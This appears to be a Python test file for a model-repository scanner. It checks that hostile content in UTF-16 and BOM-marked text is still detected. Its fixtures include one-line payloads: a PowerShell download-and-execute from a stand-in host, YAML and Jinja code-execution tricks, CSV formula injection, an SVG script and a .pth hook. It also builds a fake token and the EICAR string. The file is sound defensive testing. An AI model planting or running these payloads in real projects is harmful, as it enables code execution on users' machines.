"""Text in UTF-16, and in UTF-8 with a mark: what its loaders would read is what is judged."""

from __future__ import annotations

import random

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.cases import each
from tests.support.content import MALWARE, SECRETS, content, rules
from tests.support.inspecting import Bytes, answer, rules_of, verdict_of
from weighbridge.core.finding import Verdict
from weighbridge.inspectors.texts.wide_texts import RULES, WideTexts

LITTLE, BIG, MARKED = "utf-16-le", "utf-16-be", "utf-8-sig"
MARKS = {LITTLE: b"\xff\xfe", BIG: b"\xfe\xff", MARKED: b""}


def written(text: str, encoding: str) -> bytes:
    """As spreadsheets, pandas and editors write it."""
    return MARKS[encoding] + text.encode(encoding)


ORDINARY = {
    "table.csv": "näme,välue\r\nä,1\r\n",
    "export.tsv": "a\tb\r\n1\t2\r\n",
    "notes.txt": "Wörter, 文字 und mehr\r\n" * 700,
    "README.md": "# A model\n\nWords.\n",
    "data.json": '{"rows": [1, 2, {"täg": "x"}]}\n',
    "rows.jsonl": '{"a": 1}\n{"a": 2}\n',
    "params.yaml": "lr: 0.1\nlayers: [1, 2]\n",
    "requirements.txt": "torch==2.1.0\n",
    "environment.yml": "name: x\ndependencies:\n  - python=3.10\n",
}
REFUSED = {
    "config.json": '{"model_type": "llama", "vocab_size": 32}',
    "tokenizer_config.json": '{"model_max_length": 32}',
    "tokenizer.json": '{"version": "1.0", "model": {"type": "BPE", "vocab": {}, "merges": []}}',
    "model.safetensors.index.json": '{"weight_map": {"w": "model-1.safetensors"}}',
    "chat_template.jinja": "{{ messages[0].content }}",
    "vocab.txt": "a\nb\n",
    "merges.txt": "#version: 0.2\na b\n",
    "modeling_x.py": "x = 1\n",
    "pyproject.toml": "[tool.ruff]\nline-length = 120\n",
}
HOSTILE = [
    ("config.json", '{"auto_map": {"AutoModel": "evil/x--a.B"}}', "config-remote-code-elsewhere"),
    ("params.yaml", "a: !!python/object/apply:os.system [id]\n", "yaml-python-tag"),
    ("table.csv", "a,b\r\n=cmd|'/c calc'!A1,2\r\n", "table-formula"),
    ("requirements.txt", "--index-url https://host.example/simple\ntorch==2.0\n", "requirements-index"),
    ("environment.yml", "name: x\nvariables:\n  LD_PRELOAD: ./x.so\n", "environment-preload"),
    ("install.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://h.example/x')\n", "script-downloaded-code"),
    ("modeling_x.py", "import os\nos.system('id')\n", "python-runs-at-import"),
    ("chat_template.jinja", "{{ cycler.__init__.__globals__.os.popen('id') }}", "template-sandbox-escape"),
    ("picture.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "svg-script"),
    ("hook.pth", "import os; os.system('id')\n", "path-file-import"),
]


@each("encoding", MARKS)
def test_ordinary_exports_are_clean(encoding: str) -> None:
    for path, text in ORDINARY.items():
        data = written(text, encoding)
        assert (path, rules_of(path, data), verdict_of(path, data)) == (path, set(), Verdict.CLEAN)


@each("encoding", (LITTLE, BIG))
def test_what_its_loader_would_refuse_is_told(encoding: str) -> None:
    for path, text in REFUSED.items():
        assert "text-wrong-encoding" in rules_of(path, written(text, encoding)), path


@each("path, text, rule", HOSTILE)
def test_what_is_hostile_is_so_in_every_encoding(path: str, text: str, rule: str) -> None:
    for encoding in MARKS:
        data = written(text, encoding)
        assert rule in rules_of(path, data)
        assert rule in rules_of(path, written(text + "\n", encoding))
        # A byte more or less is no UTF-16 any more, and is not clean.
        if encoding != MARKED:
            assert verdict_of(path, data + b"x") is not Verdict.CLEAN
            assert verdict_of(path, data[:-1]) is not Verdict.CLEAN


@each("data", [b"a\0b", b"\x00\xd8a\0", b"a\0" * 9000 + b"\x00\xd8a\0", b"a\0" * 9000 + b"x"])
def test_what_is_no_utf_16_to_its_end_is_unknown(data: bytes) -> None:
    assert "text-broken-encoding" in rules_of("a.txt", b"\xff\xfe" + data)
    assert verdict_of("a.txt", b"\xff\xfe" + data) is Verdict.UNKNOWN


def test_every_rule_is_tried() -> None:
    assert {rule.id for rule in RULES} == {"text-wrong-encoding", "text-broken-encoding"}


def test_control_characters_and_other_names_are_not_clean() -> None:
    assert verdict_of("a.txt", written("a\x00b\x01c" * 20, LITTLE)) is not Verdict.CLEAN
    assert verdict_of("a.txt", written("words\n" * 3000 + "\x00\x01", BIG)) is not Verdict.CLEAN
    assert "kind-extension-mismatch" in rules_of("a.png", written("words", LITTLE))


def test_secrets_and_malware_are_seen_through_the_encoding() -> None:
    token = "ghp_" + "".join(random.Random(5).choices("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789", k=36))
    test_virus = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    for encoding in MARKS:
        assert "secret-provider-token" in rules(
            content("a.csv", written(f"name,key\r\nä,{token}\r\n", encoding), SECRETS)
        )
        assert rules(content("a.txt", written(test_virus, encoding), MALWARE))


@settings(max_examples=150, deadline=None)
@given(text=st.text(max_size=200), encoding=st.sampled_from((LITTLE, BIG)), path=st.sampled_from([*ORDINARY, *REFUSED]))
def test_any_text_is_answered(text: str, encoding: str, path: str) -> None:
    data = MARKS[encoding] + text.encode(encoding, "surrogatepass")
    reader = Bytes(path, data)
    answer(WideTexts(), reader)
    assert reader.read_bytes <= 64 * len(data) + 100_000
    assert verdict_of(path, data) in Verdict
